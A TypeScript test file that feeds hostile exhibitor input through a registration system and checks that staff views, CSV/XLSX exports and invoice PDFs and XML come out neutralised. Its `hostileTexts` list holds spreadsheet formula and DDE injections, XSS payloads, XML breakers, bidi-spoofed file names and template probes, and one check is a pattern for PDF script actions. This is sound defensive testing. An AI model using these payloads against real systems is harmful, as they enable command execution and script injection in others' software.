import { inflateSync } from "node:zlib"
import { parse } from "csv-parse/sync"
import { extractText } from "unpdf"
import { beforeAll, describe, expect, it } from "vitest"
import type { Api } from "#lib/api/link.ts"
import { textAt } from "#lib/backend/finance/invoices/facturx/read-xml.ts"
import { readXml } from "#lib/backend/platform/parsing/parse-xml.ts"
import { isFormula, withoutGuards } from "#lib/text/spreadsheet-text.ts"
import { send } from "#tests/factories/api.ts"
import { newKey } from "#tests/factories/invoices.ts"
import { finished } from "#tests/factories/jobs.ts"
import { filledIn, visitor } from "#tests/factories/public-applications.ts"
import { createShow, type TestShow } from "#tests/factories/registrations.ts"
import { createUser, issueToken, signIn } from "#tests/factories/users.ts"
import { sheetRows, unzip } from "#tests/factories/zip.ts"

let staff: Api
let token: string
let show: TestShow
beforeAll(async () => {
  show = await createShow()
  const user = await createUser({ isAdmin: true })
  ;[staff, token] = [await signIn(user), await issueToken(user)]
})

/** An application whose every text is hostile, as it was published. */
async function published(hostile: string) {
  const { slug, values, version } = await filledIn(show)
  const short = hostile.slice(0, 20)
  const typed = {
    ...values,
    brand: {
      basic: { ...values.brand.basic, name: hostile },
      brands: values.brand.brands.map((brand, place) => ({
        ...brand,
        brandName: `${hostile}${place || ""}`,
        website: hostile,
        socialNetworks: [{ socialNetworkId: 1, name: hostile }],
      })),
    },
    contacts: values.contacts.map((contact) => ({
      ...contact,
      firstName: hostile,
      lastName: hostile,
      jobTitle: hostile,
      phones: [{ countryId: null, number: short }],
    })),
    booths: values.booths.map((booth) => ({ ...booth, agentName: hostile, note: hostile })),
    billing: {
      ...values.billing,
      firstName: hostile,
      lastName: hostile,
      companyName: hostile,
      street: hostile,
      city: hostile,
      zipCode: short,
      note: hostile,
      vatCode: "",
    },
    platform: { ...values.platform, name: hostile },
    organization: { organizationId: null },
  }
  await visitor().applications.save({ slug, version, values: typed })
  return visitor().applications.publish({ slug })
}

async function exported(id: number, format: "csv" | "xlsx") {
  const job = await finished(staff, staff.exports.registrations({ targets: [id], format }))
  return Buffer.from(await (await send(`/api/job/${job.id}/file`, { token })).arrayBuffer())
}

/** What is stored of those that have signs that nobody sees. */
const stored: Record<string, string> = {
  "\u202Efdp.exe\u202C\u2066x\u2069": "fdp.exex",
  "A\u0001\u0008\u001b[31m\u007fZ": "A [31m Z",
}

const hostileTexts = [
  `=HYPERLINK("http://x/?"&A1,"<svg/onload=alert(1)>")`,
  `+cmd|' /C calc'!A0<script>alert(1)</script>`,
  `@SUM(1+1)*<img src=x onerror=alert(1)>`,
  `-2+3;=1+1,"=1+1"`,
  "]]><x/>&amp;&#x41;&lol;<!--",
  "\u202Efdp.exe\u202C\u2066x\u2069",
  "{{7*7}}<%= 7*7 %>",
  "A\u0001\u0008\u001b[31m\u007fZ",
]

describe.each(hostileTexts)("what an exhibitor typed, %j,", (hostile) => {
  let id: number
  const shown = stored[hostile] ?? hostile
  beforeAll(async () => {
    id = (await published(hostile)).id
  })

  it("is on staff's page of it as it was typed, as one line of what can be seen", async () => {
    const { data } = await staff.registrationRecord.get({ draft: id })
    expect(data.informations.company_name).toBe(shown)
    expect(data.billing).toMatchObject({ company_name: shown, street: shown })
  })

  it("is no formula in a CSV and no markup in a workbook", async () => {
    const csv = (await exported(id, "csv")).toString("utf8")
    const cells = parse(csv, { bom: true, delimiter: [",", ";"], relaxColumnCount: true }).flat()
    const typed = cells.filter((cell: string) => withoutGuards(cell).includes(hostile.slice(2, 6)))
    expect(typed.length).toBeGreaterThan(2)
    for (const cell of cells) expect(isFormula(cell)).toBe(false)
    const workbook = await exported(id, "xlsx")
    const sheet = unzip(workbook).get("xl/worksheets/sheet1.xml") ?? ""
    expect(sheet).not.toMatch(/<f[ >]|<svg|<script|<img|<x\/>/)
    expect(() => readXml(sheet)).not.toThrow()
    expect(sheetRows(workbook)).toHaveLength(2)
  })

  it("is a text in the invoice, its PDF and its XML", async () => {
    const { data } = await staff.invoices.store({ session: id, key: newKey() })
    const answer = await send(`/api/invoice/${data.id}/pdf`, { token })
    expect(answer.status).toBe(200)
    const pdf = Buffer.from(await answer.arrayBuffer())
    expect(pdf.toString("latin1")).not.toMatch(/\/JavaScript|\/JS\s|\/OpenAction\s*<<|\/Launch/)
    const { text } = await extractText(new Uint8Array(pdf), { mergePages: true })
    expect(text).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/)
    const file = pdf.indexOf("/Type /EmbeddedFile")
    const start = pdf.indexOf("stream\n", file) + "stream\n".length
    const xml = inflateSync(pdf.subarray(start, pdf.indexOf("\nendstream", start))).toString()
    // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what XML cannot hold.
    expect(xml).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/)
    const buyer =
      "CrossIndustryInvoice/SupplyChainTradeTransaction/ApplicableHeaderTradeAgreement/BuyerTradeParty"
    const name = textAt(readXml(xml), `${buyer}/Name`)
    expect(name).toBe(shown)
  })
})
